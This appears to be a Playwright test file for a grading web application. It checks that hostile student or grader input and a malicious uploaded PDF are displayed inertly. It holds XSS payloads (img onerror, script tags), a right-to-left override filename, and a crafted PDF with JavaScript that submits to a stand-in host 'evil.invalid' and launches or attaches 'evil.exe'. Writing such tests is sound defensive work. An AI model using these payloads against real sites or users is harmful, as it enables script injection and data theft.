import { plainPdf } from '@gradeway/test/plainPdf';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { beyondWindow } from './beyondWindow.ts';
import { deskOf, nextFrames } from './desk.ts';
import { grading, newGradingScene } from './gradingScene.ts';
import { openAs } from './openWindow.ts';

const markup = '<img src=x onerror=alert(1)></title><script>alert(2)</script>';
/** Reverses the direction of the following text and is never closed. */
const turned = '\u202Egnp.exe';
const emoji = '👩🏽‍🏫🇸🇦e\u0301\u0300';
const hostile = `${markup} ${turned} ${emoji}`;
const unbroken = 'W'.repeat(1_000);

/** Returns the elements that a page has created from plain text. */
const madeOf = (page: Page) =>
  page.evaluate(
    () =>
      document.querySelectorAll('[onerror], body script, iframe, object, embed, a[href^="javascript:"]')
        .length,
  );

describe('texts of people', () => {
  test('user-supplied text is shown as written, does not run and does not break the layout', async () => {
    const scene = await newGradingScene({
      title: `${hostile} ${unbroken.slice(0, 100)}`,
      lastNames: [hostile, unbroken.slice(0, 100)],
      rubric: [
        { points: 1, text: `${hostile} ${unbroken.slice(0, 400)}`, explanation: hostile },
        { points: 2, text: markup },
      ],
      file: () => ({ name: `${hostile}.pdf`.replaceAll('/', '_'), bytes: plainPdf([{}]) }),
    });
    const { title, submissions, grader } = scene;
    const [first] = submissions;
    const comment = `${hostile} ${unbroken}`.slice(0, 900);
    const body = { selection: [scene.rubricItems[0]?.id], rubric_revision: scene.rubricRevision, comment };
    await grader.put(`${grading}/quizzes/submissions/${first?.id}`, body, { 'if-match': '*' });
    await grader.post(`${grading}/comments`, { text: comment });

    const window = await openAs(grader, '/grading');
    const { page } = window;
    const pages = [
      ['/grading', page.getByRole('link', { name: title })],
      [`${scene.path}?status=all`, page.getByRole('link', { name: first?.studentName ?? '' })],
      [scene.deskPath(0), deskOf(window).student.getByText(first?.studentName ?? '', { exact: true })],
      [`${scene.path}/rubric`, page.getByRole('list', { name: 'Items' })],
      [`${scene.path}/statistics`, page.getByRole('heading', { name: 'Rubric items' })],
    ] as const;
    const found: unknown[] = [];
    for (const width of [1280, 360]) {
      await page.setViewportSize({ width, height: 800 });
      for (const [path, shown] of pages) {
        await page.goto(path);
        await shown.first().waitFor();
        const [made, beyond] = [await madeOf(page), await beyondWindow(page)];
        if (made > 0 || beyond.length > 0) found.push({ path, width, made, beyond });
      }
    }
    expect(found).toEqual([]);
    await page.goto(scene.deskPath(0));
    await expect.poll(() => deskOf(window).comment.inputValue()).toBe(comment);
  });

  test('text that is too long is rejected before it is sent, and is not lost', async () => {
    const scene = await newGradingScene({ lastNames: ['Abel'] });
    const window = await openAs(scene.grader, scene.deskPath(0));
    const desk = deskOf(window);
    const long = `${markup}${'é'.repeat(10_000)}`;
    await desk.comment.fill(long);
    await desk.save.click();
    await window.page.getByText('A comment can have up to 1,000 characters.').waitFor();
    await window.page.reload();
    await expect.poll(() => desk.comment.inputValue()).toBe(long);
    expect((await scene.detail(scene.submissions[0]?.id ?? 0)).grade).toBeNull();
    await window.page.goto(`${scene.path}?search=${encodeURIComponent(hostile.repeat(3))}`);
    await window.page.getByRole('heading', { name: 'No one found' }).waitFor();
  });
});

test('a PDF with scripts, forms, links and embedded files is only displayed', async () => {
  const script = '<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.invalid/"\\))>>';
  const everywhere = '/Rect[0 0 595 842]';
  const catalog = `/OpenAction ${script}/AA<</WC ${script}/WS ${script}>>
/Names<</JavaScript<</Names[(a) ${script}]>>/EmbeddedFiles<</Names[(evil.exe)<</Type/Filespec/F(evil.exe)>>]>>>>
/AcroForm<</Fields[]/NeedAppearances true/XFA[(template)(<x/>)]>>`;
  const annotations = [
    `<</Type/Annot/Subtype/Link${everywhere}/A<</S/URI/URI(http://evil.invalid/)>>>>`,
    `<</Type/Annot/Subtype/Link${everywhere}/A<</S/Launch/F(evil.exe)>>>>`,
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)${everywhere}/AA<</E ${script}/K ${script}>>/A ${script}>>`,
    `<</Type/Annot/Subtype/FileAttachment${everywhere}/FS<</Type/Filespec/F(evil.exe)>>>>`,
  ];
  const content = 'BT /F1 24 Tf 100 700 Td (An answer) Tj ET';
  const bytes = plainPdf([{ content, annotations }], { catalog });
  const scene = await newGradingScene({ lastNames: ['Abel'], file: () => ({ name: 'evil.pdf', bytes }) });
  const window = await openAs(scene.grader, scene.deskPath(0));
  const { page, context } = window;
  const opened: string[] = [];
  context.on('page', (other) => opened.push(other.url()));
  page.on('download', (download) => opened.push(download.url()));
  const { sheet, student } = deskOf(window);
  await sheet.locator('canvas').waitFor();
  for (const position of [
    { x: 60, y: 60 },
    { x: 200, y: 300 },
  ])
    await sheet.locator('[data-page="1"]').click({ position });
  await page.keyboard.type('a');
  await nextFrames(page);
  expect(opened).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(scene.deskPath(0));
  expect(await sheet.locator('a, input, textarea, select, iframe').count()).toBe(0);
  expect(await student.textContent()).toBe('Ada Abel');
});
